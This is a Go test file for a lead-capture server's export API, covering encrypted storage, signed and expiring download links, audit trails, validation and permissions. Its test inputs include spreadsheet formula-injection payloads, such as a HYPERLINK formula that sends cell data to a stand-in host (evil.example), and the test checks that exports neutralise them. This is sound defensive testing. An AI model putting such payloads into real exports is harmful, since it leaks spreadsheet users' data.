package server_test

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"mime"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/leadcap/leadcap"
	"github.com/leadcap/leadcap/internal/blob"
	"github.com/leadcap/leadcap/internal/capture"
	"github.com/leadcap/leadcap/internal/export"
	"github.com/leadcap/leadcap/internal/identity"
	"github.com/leadcap/leadcap/internal/intake"
	"github.com/leadcap/leadcap/internal/server"
	"github.com/leadcap/leadcap/internal/store"
	"github.com/leadcap/leadcap/internal/store/storetest"
)

// shiftClock is the time, moved ahead by the test.
type shiftClock struct {
	mu     sync.Mutex
	offset time.Duration
}

func (c *shiftClock) now() time.Time {
	c.mu.Lock()
	defer c.mu.Unlock()
	return time.Now().Add(c.offset)
}

func (c *shiftClock) add(d time.Duration) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.offset += d
}

// exportServer is leadcap's HTTP surface with exports on loopback, over a
// real database, object directory and audit trail, with an admin signed in
// by a token.
type exportServer struct {
	*testServer
	objects *blob.Dir
	clock   *shiftClock
	bearer  string
}

func newExportServer(t *testing.T, dsn string, syncRows int64) *exportServer {
	t.Helper()
	ctx := context.Background()
	st, keys := storetest.Open(t, dsn, store.Options{Merge: intake.MergeLead})
	objects, err := blob.OpenDir(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { objects.Close() })
	log := slog.New(slog.NewTextHandler(io.Discard, nil))
	clk := &shiftClock{}
	jobs, cancel := context.WithCancel(ctx)
	exports := export.NewService(jobs, export.Config{Store: st, Blob: objects, Keys: keys, Auditor: export.StoreAuditor{Store: st},
		Log: log, TempDir: t.TempDir(), SyncRows: syncRows, Now: clk.now})
	t.Cleanup(func() { cancel(); exports.Wait() })
	idClock := newClock()
	ident := identity.New(identity.Options{Store: st, Keys: keys, Now: idClock.now})
	h := server.New(server.Deps{Store: st, Capture: capture.New(st, nil), Exports: exports, Identity: ident, Log: log,
		MaxBodyBytes: 64 << 10})
	ts := httptest.NewServer(h)
	t.Cleanup(ts.Close)
	es := &exportServer{testServer: &testServer{Server: ts, store: st, ident: ident, clock: idClock}, objects: objects, clock: clk}
	es.bearer = es.mustToken(t, es.mustAccount(t, leadcap.RoleAdmin), "").bearer
	return es
}

// audits returns the export events of the audit trail, oldest first, as
// "action result target".
func (es *exportServer) audits(t *testing.T) []string {
	t.Helper()
	evs, _, err := es.store.AuditEvents(context.Background(), store.AuditFilter{Action: "export", Limit: 1000})
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for i := len(evs) - 1; i >= 0; i-- {
		out = append(out, fmt.Sprintf("%s %s %s", evs[i].Action, evs[i].Result, evs[i].Target))
	}
	return out
}

// do sends a request and decodes a JSON answer.
func (es *exportServer) do(t *testing.T, method, path, contentType, body string) response {
	t.Helper()
	req, err := http.NewRequest(method, es.URL+path, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	if contentType != "" {
		req.Header.Set("Content-Type", contentType)
	}
	if es.bearer != "" {
		req.Header.Set("Authorization", "Bearer "+es.bearer)
	}
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	b, _ := io.ReadAll(res.Body)
	r := response{status: res.StatusCode, raw: string(b)}
	json.Unmarshal(b, &r.body)
	return r
}

// nastyLeadBodies are lead submissions, as the booth form sends them, with
// the inputs that break exports.
func nastyLeadBodies() []string {
	return []string{
		lead(map[string]any{"submission_id": "n1", "first_name": `=HYPERLINK("http://evil.example/?"&A1,"click")`,
			"last_name": "+SUM(1+1)", "company": "-2+3", "job_title": "@SUM(A1)", "phone": "+501 622 3456",
			"notes": "＝1+1\nsecond line, with \"quotes\" and, commas", "email": "ana@example.com"}),
		lead(map[string]any{"submission_id": "n2", "first_name": "👩‍👩‍👧‍👦", "last_name": "Família 🇧🇿",
			"company": "مريم للسفر", "job_title": "שלום עולם", "email": "familia@example.com",
			"answers": map[string]any{"role": "＋ＳＵＭ(1)", "size": "solo"}}),
		lead(map[string]any{"submission_id": "n3", "first_name": `O"Brien, Jr.`, "company": `Acme, "The Best" Ltd`,
			"email": "quotes@example.com"}),
	}
}

func TestExportAPI(t *testing.T) {
	storetest.Each(t, func(t *testing.T, dsn string) {
		es := newExportServer(t, dsn, 10)
		es.mustConference(t, "expo", leadcap.StatusOpen)
		for _, body := range nastyLeadBodies() {
			if r := es.post(t, jsonType, body); r.status != 201 {
				t.Fatalf("lead: %d %s", r.status, r.raw)
			}
		}
		stored, _, err := es.store.Leads(context.Background(), store.LeadFilter{})
		if err != nil || len(stored) != 3 {
			t.Fatalf("stored %d leads, %v", len(stored), err)
		}

		// A small export is written at once: 201 with the whole answer.
		r := es.do(t, "POST", "/api/v1/exports", jsonType, `{"format":"csv","conference":"expo","columns":"hubspot","bom":true}`)
		if r.status != 201 {
			t.Fatalf("create: %d %s", r.status, r.raw)
		}
		for _, k := range []string{"id", "format", "rows", "bytes", "sha256", "url", "expires_at", "url_expires_at"} {
			if r.body[k] == nil || r.body[k] == "" {
				t.Fatalf("answer lacks %q: %s", k, r.raw)
			}
		}
		id := r.body["id"].(string)
		if r.body["rows"] != 3.0 || r.body["status"] != "done" {
			t.Fatalf("answer %s", r.raw)
		}
		created, _ := time.Parse(time.RFC3339, r.body["expires_at"].(string))
		if d := created.Sub(es.clock.now()); d < 364*24*time.Hour || d > 366*24*time.Hour {
			t.Fatalf("export expires in %v, want 365 days", d)
		}

		// Stored sealed at exports/YYYY/MM/DD/<id>.csv: no lead text in it.
		key := "exports/" + time.Now().UTC().Format("2006/01/02") + "/" + id + ".csv"
		obj, _, err := es.objects.Get(context.Background(), key)
		if err != nil {
			t.Fatalf("object %s: %v", key, err)
		}
		sealed, _ := io.ReadAll(obj)
		obj.Close()
		if bytes.Contains(sealed, []byte("familia@example.com")) || bytes.Contains(sealed, []byte("HYPERLINK")) {
			t.Fatal("the stored export holds lead text in clear")
		}

		// The link downloads the file, decrypted, with a name.
		link := r.body["url"].(string)
		res, data := download(t, es.URL+link)
		if res.StatusCode != 200 {
			t.Fatalf("download: %d %s", res.StatusCode, data)
		}
		_, params, _ := mime.ParseMediaType(res.Header.Get("Content-Disposition"))
		if want := "leadcap-expo-" + time.Now().UTC().Format(time.DateOnly) + "-" + id[:8] + ".csv"; params["filename"] != want {
			t.Fatalf("filename %q, want %q", params["filename"], want)
		}
		sum := sha256.Sum256(data)
		if hex.EncodeToString(sum[:]) != r.body["sha256"] || float64(len(data)) != r.body["bytes"] || res.Header.Get("Content-Type") != "text/csv; charset=utf-8" {
			t.Fatalf("downloaded %d bytes that are not the export described: %s", len(data), r.raw)
		}
		records, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\ufeff")))).ReadAll()
		if err != nil || len(records) != 4 || records[0][3] != "First Name" || records[0][6] != "Phone Number" {
			t.Fatalf("csv: %v %q", err, records)
		}
		col := map[string]int{}
		for i, h := range records[0] {
			col[h] = i
		}
		for i, l := range stored {
			rec := func(h string) string { return export.Restore(records[i+1][col[h]]) }
			if rec("First Name") != l.FirstName || rec("Last Name") != l.LastName || rec("Email") != l.Email ||
				rec("Phone Number") != l.Phone || rec("Company Name") != l.Company || rec("Job Title") != l.JobTitle ||
				rec("Notes") != l.Notes || rec("Your role") != fmt.Sprint(l.Answers["role"]) || rec("Leadcap ID") != l.ID {
				t.Errorf("row %d: %q\nstored %+v", i+1, records[i+1], l)
			}
		}
		if records[1][3] != `'=HYPERLINK("http://evil.example/?"&A1,"click")` || records[1][6] != "'+5016223456" {
			t.Errorf("not neutralised: %q", records[1])
		}

		// A changed link is refused; so is one that has expired.
		u, _ := url.Parse(link)
		q := u.Query()
		for name, edit := range map[string]func(url.Values){
			"other signature": func(q url.Values) { q.Set("sig", strings.Repeat("A", len(q.Get("sig")))) },
			"later expiry":    func(q url.Values) { q.Set("expires", fmt.Sprint(es.clock.now().Add(time.Hour).Unix())) },
			"no signature":    func(q url.Values) { q.Del("sig") },
		} {
			q2, _ := url.ParseQuery(q.Encode())
			edit(q2)
			if res, body := download(t, es.URL+u.Path+"?"+q2.Encode()); res.StatusCode != 403 {
				t.Errorf("%s: %d %s, want 403", name, res.StatusCode, body)
			}
		}
		other := "/api/v1/exports/0190aaaa-0000-7000-8000-000000000000/download?" + u.RawQuery
		if res, body := download(t, es.URL+other); res.StatusCode != 403 {
			t.Errorf("another export's id: %d %s, want 403", res.StatusCode, body)
		}
		es.clock.add(16 * time.Minute)
		if res, body := download(t, es.URL+link); res.StatusCode != 410 {
			t.Errorf("expired link: %d %s, want 410", res.StatusCode, body)
		}
		// A fresh link for up to 7 days.
		r = es.do(t, "GET", "/api/v1/exports/"+id+"?link_ttl=48h", "", "")
		exp, _ := time.Parse(time.RFC3339, fmt.Sprint(r.body["url_expires_at"]))
		if r.status != 200 || exp.Sub(es.clock.now()) < 47*time.Hour {
			t.Fatalf("fresh link: %d %s", r.status, r.raw)
		}
		if res, _ := download(t, es.URL+r.body["url"].(string)); res.StatusCode != 200 {
			t.Fatalf("fresh link: %d", res.StatusCode)
		}
		if r := es.do(t, "GET", "/api/v1/exports/"+id+"?link_ttl=169h", "", ""); r.status != 422 {
			t.Fatalf("link for over 7 days: %d %s", r.status, r.raw)
		}

		// Every export and every download is audited.
		target := "export:" + id
		want := []string{"export.create success " + target, "export.download success " + target,
			"export.download denied " + target, "export.download denied " + target, "export.download denied " + target,
			"export.download denied export:0190aaaa-0000-7000-8000-000000000000", "export.download denied " + target,
			"export.download success " + target}
		if got := es.audits(t); strings.Join(got, "\n") != strings.Join(want, "\n") {
			t.Fatalf("audit events\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
		}

		// Delete: the file (every version) and the record go.
		if r := es.do(t, "DELETE", "/api/v1/exports/"+id, "", ""); r.status != 204 {
			t.Fatalf("delete: %d %s", r.status, r.raw)
		}
		if _, err := es.objects.Versions(context.Background(), key); !errors.Is(err, blob.ErrNotFound) {
			t.Fatalf("object after delete: %v", err)
		}
		if r := es.do(t, "GET", "/api/v1/exports/"+id, "", ""); r.status != 404 {
			t.Fatalf("get after delete: %d", r.status)
		}
		if res, _ := download(t, es.URL+link); res.StatusCode != 410 && res.StatusCode != 404 {
			t.Fatalf("download after delete: %d", res.StatusCode)
		}
	})
}

func TestExportJob(t *testing.T) {
	storetest.Each(t, func(t *testing.T, dsn string) {
		// Over 2 leads is a job.
		es := newExportServer(t, dsn, 2)
		es.mustConference(t, "expo", leadcap.StatusOpen)
		for _, body := range nastyLeadBodies() {
			es.post(t, jsonType, body)
		}
		r := es.do(t, "POST", "/api/v1/exports", jsonType, `{"format":"xlsx"}`)
		if r.status != 202 || r.body["id"] == nil || r.body["url"] != nil {
			t.Fatalf("large export: %d %s", r.status, r.raw)
		}
		id := r.body["id"].(string)
		deadline := time.Now().Add(20 * time.Second)
		for r.body["status"] != "done" {
			if time.Now().After(deadline) || r.body["status"] == "failed" {
				t.Fatalf("job: %s", r.raw)
			}
			time.Sleep(20 * time.Millisecond)
			r = es.do(t, "GET", "/api/v1/exports/"+id, "", "")
			if r.body["total"] != 3.0 {
				t.Fatalf("progress: %s", r.raw)
			}
		}
		if r.body["rows"] != 3.0 || r.body["url"] == nil {
			t.Fatalf("done job: %s", r.raw)
		}
		res, data := download(t, es.URL+r.body["url"].(string))
		if res.StatusCode != 200 || !bytes.HasPrefix(data, []byte("PK")) || res.Header.Get("Content-Type") != export.ContentType("xlsx") {
			t.Fatalf("xlsx download: %d, %d bytes", res.StatusCode, len(data))
		}
		list := es.do(t, "GET", "/api/v1/exports", "", "")
		if exports, _ := list.body["exports"].([]any); list.status != 200 || len(exports) != 1 {
			t.Fatalf("list: %s", list.raw)
		}
	})
}

func TestExportRequests(t *testing.T) {
	es := newExportServer(t, storetest.SQLite(t), 10)
	es.mustConference(t, "expo", leadcap.StatusOpen)
	tests := []struct {
		name, contentType, body string
		status                  int
		field                   string
	}{
		{"no format", jsonType, `{}`, 422, "format"},
		{"bad format", jsonType, `{"format":"pdf"}`, 422, "format"},
		{"bad preset", jsonType, `{"format":"csv","columns":"zoho"}`, 422, "columns"},
		{"bom on json", jsonType, `{"format":"json","bom":true}`, 422, "bom"},
		{"unknown conference", jsonType, `{"format":"csv","conference":"nope"}`, 422, "conference"},
		{"bad date", jsonType, `{"format":"csv","since":"yesterday"}`, 422, "since"},
		{"until before since", jsonType, `{"format":"csv","since":"2026-03-02","until":"2026-03-01T00:00:00Z"}`, 422, "until"},
		{"bad link ttl", jsonType, `{"format":"csv","link_ttl":"8d"}`, 422, "link_ttl"},
		{"unknown field", jsonType, `{"format":"csv","admin":true}`, 400, ""},
		{"trailing data", jsonType, `{"format":"csv"}{}`, 400, ""},
		{"wrong type", jsonType, `{"format":5}`, 400, ""},
		{"not JSON", "text/plain", `{"format":"csv"}`, 415, ""},
		{"too large", jsonType, `{"format":"csv","conference":"` + strings.Repeat("x", 5000) + `"}`, 413, ""},
		{"every conference", jsonType, `{"format":"ndjson","since":"2026-01-01","include_spam":true}`, 201, ""},
	}
	for _, tt := range tests {
		r := es.do(t, "POST", "/api/v1/exports", tt.contentType, tt.body)
		if r.status != tt.status {
			t.Errorf("%s: %d %s, want %d", tt.name, r.status, r.raw, tt.status)
			continue
		}
		if tt.field != "" {
			fields, _ := r.body["error"].(map[string]any)["fields"].(map[string]any)
			if fields[tt.field] == nil {
				t.Errorf("%s: error does not name %q: %s", tt.name, tt.field, r.raw)
			}
		}
	}
	if r := es.do(t, "GET", "/api/v1/exports?limit=0", "", ""); r.status != 422 {
		t.Errorf("limit 0: %d", r.status)
	}
	if r := es.do(t, "DELETE", "/api/v1/exports/nope", "", ""); r.status != 404 {
		t.Errorf("delete unknown: %d", r.status)
	}
}

func download(t *testing.T, u string) (*http.Response, []byte) {
	t.Helper()
	res, err := http.Get(u)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	b, err := io.ReadAll(res.Body)
	if err != nil {
		t.Fatalf("download %s: %v", u, err)
	}
	return res, b
}

// TestExportPermissions: admins export; staff only when granted
// leads:export; strangers not at all. The audit trail names who.
func TestExportPermissions(t *testing.T) {
	storetest.Each(t, func(t *testing.T, dsn string) {
		es := newExportServer(t, dsn, 10)
		es.mustConference(t, "expo", leadcap.StatusOpen)
		es.post(t, jsonType, nastyLeadBodies()[0])
		staff := es.mustAccount(t, leadcap.RoleStaff)
		granted := es.mustAccount(t, leadcap.RoleStaff, "leads:export")
		body := `{"format":"csv"}`
		for _, tc := range []struct {
			name   string
			bearer string
			status int
		}{
			{"nobody", "", 401},
			{"staff", es.mustToken(t, staff, "").bearer, 403},
			{"staff granted leads:export", es.mustToken(t, granted, "").bearer, 201},
			{"admin", es.bearer, 201},
		} {
			as := *es
			as.bearer = tc.bearer
			if r := as.do(t, "POST", "/api/v1/exports", jsonType, body); r.status != tc.status {
				t.Errorf("%s: POST %d %s, want %d", tc.name, r.status, r.raw, tc.status)
			}
			if r := as.do(t, "GET", "/api/v1/exports", "", ""); (r.status == 200) != (tc.status == 201) {
				t.Errorf("%s: GET list %d", tc.name, r.status)
			}
		}
		evs, _, err := es.store.AuditEvents(context.Background(), store.AuditFilter{Action: "export.create"})
		if err != nil || len(evs) != 2 {
			t.Fatalf("audit: %d events, %v", len(evs), err)
		}
		if evs[1].ActorID != granted.user.ID || evs[1].Actor != granted.email || evs[1].Detail["rows"] != "1" {
			t.Fatalf("audit of the staff export: %+v", evs[1])
		}
	})
}
